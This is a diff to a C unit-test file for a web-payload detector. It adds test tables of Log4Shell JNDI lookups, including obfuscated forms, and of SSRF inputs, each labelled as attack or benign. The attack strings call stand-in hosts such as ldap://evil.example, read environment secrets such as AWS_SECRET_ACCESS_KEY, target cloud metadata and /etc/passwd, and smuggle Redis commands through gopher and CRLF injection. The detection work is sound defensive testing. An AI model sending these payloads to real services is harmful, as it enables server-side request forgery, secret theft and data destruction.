@@ -23,31 +23,76 @@ struct qcase {
 #define N PAYLOAD_NONE
 #define S PAYLOAD_SSRF
 
+/* 1 when the query q does not draw what c wants (said on stderr) */
+static int q_fails(const char *cls, const char *q, enum payload_kind want)
+{
+	struct payload_match m[PAYLOAD__COUNT];
+	unsigned set = 0;
+	int top = 0;
+	const char *why = "";
+	enum payload_kind kind = N;
+
+	for (int pass = 0; pass < 2; pass++) {
+		int k = payload_scan_query(q, strlen(q), pass ? PAYLOAD_WHERE_BODY : PAYLOAD_WHERE_QUERY,
+					   m, PAYLOAD__COUNT);
+
+		for (int j = 0; j < k; j++) {
+			set |= 1u << m[j].kind;
+			if (m[j].score > top) {
+				top = m[j].score;
+				kind = m[j].kind;
+				why = m[j].why;
+			}
+		}
+	}
+	if (want == N ? set == 0 : (set >> want) & 1)
+		return 0;
+	fprintf(stderr, "  FAIL %s %s: %s [%s %d %s]\n", cls,
+		want == N ? "benign flagged" : "attack missed", q, payload_kind_names[kind], top, why);
+	return 1;
+}
+
 static void run_qtable(const char *cls, const struct qcase *t, size_t n)
 {
 	int bad = 0;
 
-	for (size_t i = 0; i < n; i++) {
-		struct payload_match m[PAYLOAD__COUNT];
-		unsigned set = 0;
+	for (size_t i = 0; i < n; i++)
+		bad += q_fails(cls, t[i].q, t[i].want);
+	assert_int_equal(bad, 0);
+}
 
-		for (int pass = 0; pass < 2; pass++) {
-			int k = payload_scan_query(t[i].q, strlen(t[i].q),
-						   pass ? PAYLOAD_WHERE_BODY : PAYLOAD_WHERE_QUERY, m,
-						   PAYLOAD__COUNT);
+/* "q=" and v with every byte but the unreserved ones as %XX, as a form
+ * sends a field */
+static const char *form_q(const char *v)
+{
+	static char out[8192];
+	static const char hex[] = "0123456789ABCDEF";
+	size_t w = 2;
 
-			for (int j = 0; j < k; j++)
-				set |= 1u << m[j].kind;
-			if (k && ((t[i].want == N) || !((set >> t[i].want) & 1)))
-				fprintf(stderr, "  %s: %s %d %s\n", cls, payload_kind_names[m[0].kind],
-					m[0].score, m[0].why);
-		}
-		if (t[i].want == N ? set != 0 : !((set >> t[i].want) & 1)) {
-			bad++;
-			fprintf(stderr, "  FAIL %s %s: %s\n", cls,
-				t[i].want == N ? "benign flagged" : "attack missed", t[i].q);
+	memcpy(out, "q=", 2);
+	for (; *v && w + 4 < sizeof(out); v++) {
+		unsigned char c = (unsigned char)*v;
+
+		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
+		    c == '-' || c == '_' || c == '.' || c == '~') {
+			out[w++] = (char)c;
+		} else {
+			out[w++] = '%';
+			out[w++] = hex[c >> 4];
+			out[w++] = hex[c & 15];
 		}
 	}
+	out[w] = '\0';
+	return out;
+}
+
+/* each value of t sent as the form field q */
+static void run_vtable(const char *cls, const struct qcase *t, size_t n)
+{
+	int bad = 0;
+
+	for (size_t i = 0; i < n; i++)
+		bad += q_fails(cls, form_q(t[i].q), t[i].want);
 	assert_int_equal(bad, 0);
 }
 
@@ -99,10 +144,69 @@ static void test_ssrf_redirect_uri(void **st)
 	payload_cache_enable(0);
 }
 
+#define J PAYLOAD_JNDI
+
+/* log4j resolves ${jndi:NAME} through JNDI: harm needs NAME to be a URL
+ * a context factory connects to (ldap:, rmi:, dns:, iiop:, ...). The
+ * case and default lookups (lower, upper, date, ::-) only make text: by
+ * themselves they read nothing and reach nothing. */
+static void test_jndi_grammar(void **st)
+{
+	(void)st;
+	static const struct qcase t[] = {
+		{"${jndi:ldap} explained in our Log4Shell post", N},
+		{"What is ${jndi:...}?", N},
+		{"Log4j 2.17: is ${date:yyyy} still allowed in patterns?", N},
+		{"${lower:Hello} ${upper:world}", N},
+		{"${jndi:ldap://evil.example/a}", J},
+		{"${jndi:ldap:/evil/a}", J},
+		{"${jndi:dns:evil.example}", J},
+		{"${jndi:${lower:l}${lower:d}a${lower:p}://evil/a}", J},
+		{"${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", J},
+		{"${date:yyyy}${jndi:ldap://evil.example/a}", J},
+		{"${env:AWS_SECRET_ACCESS_KEY}", J},
+		{"${${lower:e}nv:AWS_SECRET_ACCESS_KEY}", J},
+		{"${sys:user.home}", J},
+		{"${::-$}{jndi:ldap://evil/a}", J},
+	};
+	run_vtable("jndi-grammar", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* A server fetches a value that is a URL: one in prose ("curl
+ * http://localhost:8080 gives ...") is no URL a client library accepts,
+ * and a scheme with nothing after it reaches nothing. Metadata hosts
+ * count in any shape. */
+static void test_ssrf_prose(void **st)
+{
+	(void)st;
+	static const struct qcase t[] = {
+		{"curl http://localhost:8080 gives connection refused", N},
+		{"http://localhost:8080 isn't working", N},
+		{"my NAS is at http://192.168.1.20 but it times out", N},
+		{"169.254.169.254 is the metadata IP", N},
+		{"dict:// scheme?", N},
+		{"http://localhost:8080", S},
+		{"  http://127.0.0.1:22/  ", S},
+		{"<iframe src=\"http://127.0.0.1:8080/admin\"></iframe>", S},
+		{"{\"url\": \"http://10.0.0.1:8500/v1/agent/self\"}", S},
+		{"see http://169.254.169.254/latest/meta-data/ now", S},
+		{"169.254.169.254", S},
+		{"169.254.169.254/latest/meta-data", S},
+		{"file:///etc/passwd", S},
+		{"dict://127.0.0.1:11211/stats", S},
+		{"ldap://127.0.0.1:389/\nstats", S},
+		{"http://127.0.0.1:6379/\r\nSET x y\r\n", S},
+		{"gopher://127.0.0.1:6379/_FLUSHALL", S},
+	};
+	run_vtable("ssrf-prose", t, sizeof(t) / sizeof(t[0]));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_ssrf_redirect_uri),
+		cmocka_unit_test(test_jndi_grammar),
+		cmocka_unit_test(test_ssrf_prose),
 	};
 	payload_cache_enable(0);
 	return cmocka_run_group_tests(tests, NULL, NULL);
